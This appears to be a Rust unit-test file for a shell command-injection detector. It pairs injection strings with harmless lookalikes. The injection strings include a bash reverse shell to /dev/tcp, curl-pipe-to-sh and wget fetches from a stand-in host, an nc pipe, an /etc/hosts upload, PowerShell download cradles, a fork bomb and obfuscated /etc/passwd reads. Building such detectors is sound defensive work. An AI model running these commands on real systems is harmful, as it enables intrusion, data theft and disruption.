use super::*;

fn attack(value: &str) -> bool {
    detect(value.as_bytes()).is_some_and(|finding| finding.confidence >= 70)
}

/// Each structure beside the ordinary text that comes nearest to it.
const PAIRS: &[(&str, &str)] = &[
    ("; cat /etc/passwd", "mammal; cat; ears"),
    ("x; id", "x; idea"),
    ("x | whoami", "this | that"),
    ("a && ping -c 1 10.0.0.1", "ping & pong"),
    ("a || curl http://x.test/a", "rock || roll"),
    ("$(id)", "$(5) each"),
    ("$(cat /etc/passwd)", "$5 (cat food)"),
    ("`id`", "use `x` here"),
    ("x$IFS/etc", "x$IFT"),
    ("$((40+2))", "((40+2))"),
    ("() { :; }; echo x", "() and {}"),
    ("x\nwget http://x.test/a", "x\nwe get it"),
    ("/bin/sh -i", "/bin/shop"),
    ("; c'a't /etc/hosts", "; c'est la vie"),
    ("| dir C:\\", "| direct"),
    ("& net user", "& network users"),
    ("bash -i >& /dev/tcp/10.0.0.1/80 0>&1", "bash is a shell"),
    ("system('id')", "system (new)"),
    ("; powershell -enc QQBB", "power; shell"),
    ("; c$@at /etc/hosts", "; c$5"),
    ("; ca${x}t /etc/hosts", "; ca${x}"),
    ("; cat$u /etc$u/hosts", "; cats"),
    ("; 'cat' /etc/hosts", "; 'cat' and dog"),
    ("x+|+dir+c:", "x+|+dire"),
    ("{cat,/etc/hosts}", "{cat,dog}"),
    ("; Get-Content C:\\x", "; get-together at 5"),
    ("| iex", "| iexplore"),
    (";/usr/bin/id\\n", "/usr/bin and others"),
    (";$'cat' /etc/hosts", "; $'5' off"),
    (";a=c;b=at;$a$b /etc/hosts", "; $a and $b /etc"),
    (";$0<<<id", "; $0 and up"),
    ("; $SHELL -c id", "; $US - or not"),
    ("who$()ami; who``ami", "who(am)i"),
    ("\nsleep 5", "a\nsleep 5"),
    ("x\ncat /etc/hosts", "I wrote this down in here\ncat /etc/hosts"),
    ("| dir", "& more"),
    ("& %COMSPEC% /c dir", "& %NAME% / dir"),
    ("%COMSPEC:~0,1%", "100%: ~0,1%"),
    ("IEX(New-Object Net.WebClient)", "(set-piece goals)"),
    ("iex (iwr 'http://x.test')", "iexplore (a browser)"),
    ("& for /f %i in ('whoami')", "& for /few"),
    ("& net user a b /add", "& net users a b"),
    (";. /etc/profile", ". / etc"),
    (";</etc/hosts cat", "&nbsp;</p>"),
    (";if true;then id;fi", "; then idea; if"),
    (";while true;do id;done", "; do ideas; done"),
    ("<(id)", "<(idea)"),
    (";find . -name x -exec cat {} +", "find . and ,"),
    (";head -1 /etc/hosts", "; head of 1"),
    (";kill -9 1", "kill 9"),
    ("`id`#", "`id` # 1"),
    ("--checkpoint-action=exec=id", "--checkpoint=1"),
    ("ls -la /home", "ls -la shows files"),
    ("curl -X POST https://x.test/a -d @/etc/hosts", "curl -X POST https://x.test/a returns 415"),
    (";id;ls", "| id | name |\n|----|------|"),
    ("bash&id", "perl & python"),
    ("%x(id)", "x(id)"),
    ("open('|id')", "open('id')"),
    ("x.txt|nc x.test 4444", "x.txt|nc or not 4444"),
    (";w`u`hoami", ";we `u` know"),
    (";Get-Process", ";get-together"),
    (";cat *", ";cat * and dog"),
    (":(){ :|:& };:", ":() and so on"),
    (">/tmp/x", "> /tmp is full"),
    ("</etc/passwd", "</div>"),
    ("--upload-pack=id", "--upload it"),
    ("$(</etc/passwd)", "$(<5)"),
    (";expr 7 \\* 7", ";express 7"),
    ("&echo 7*7", "& echo 7 times"),
    ("${PATH:0:1}", "${PORT:8080}"),
    ("docker ps && cat /etc/passwd", "docker compose down && docker compose up -d"),
    ("npm ci; curl http://x.test/a|sh", "npm ci; npm test"),
    ("git pull && curl http://x.test/a -o /tmp/a", "git pull && pip install -r requirements"),
    ("& powershell -enc QQBB", "Bash & PowerShell; others"),
    ("{cat,/etc/hosts}", "data:image/jpeg;base64,/9j/4AAQ"),
];

#[test]
fn attacks_are_found_and_their_neighbours_are_not() {
    for (bad, fine) in PAIRS {
        assert!(attack(bad), "missed: {bad} {:?}", detect(bad.as_bytes()));
        assert!(!attack(fine), "taken for an attack: {fine} {:?}", detect(fine.as_bytes()));
    }
}

#[test]
fn ordinary_text_passes() {
    for fine in [
        "Tom & Jerry",
        "Find it; sort it; move on",
        "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
        "less is more | more is less",
        "Use `find` and `sort` to list them",
        "First line\nsecond line\ndate: tomorrow",
        "head & shoulders",
        "Cost: $(approx) 5",
        "cat and dog; mouse",
        "R&D; Q&A",
        "a,b;c,d",
        "time; date; place",
        "To see what is there, run this in a terminal:\n\n    ls -la\n\nand tell me",
        "top 10",
        "PS 5",
        "id 42",
        "sleep 8",
        "test<5",
        "PS 4; PS 5",
        "Find /replace",
        "date > 2026-01-01 and price < 5",
        "Dear team,\r\n\r\nI'd like a table",
    ] {
        assert!(!attack(fine), "{fine} {:?}", detect(fine.as_bytes()));
    }
}
